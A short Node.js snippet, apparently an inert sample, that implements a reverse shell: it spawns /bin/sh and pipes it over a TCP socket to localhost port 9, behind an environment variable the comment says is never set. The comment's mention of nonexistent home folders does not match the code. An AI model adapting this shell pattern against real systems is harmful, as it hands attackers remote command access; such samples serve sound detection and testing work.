// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const net = require('net');
const { spawn } = require('child_process');
if (process.env.NEVER_SET_FOR_SAMPLES) {
  const shell = spawn('/bin/sh', []);
  const line = new net.Socket();
  line.connect(9, '127.0.0.1', () => {
    line.pipe(shell.stdin);
    shell.stdout.pipe(line);
    shell.stderr.pipe(line);
  });
}
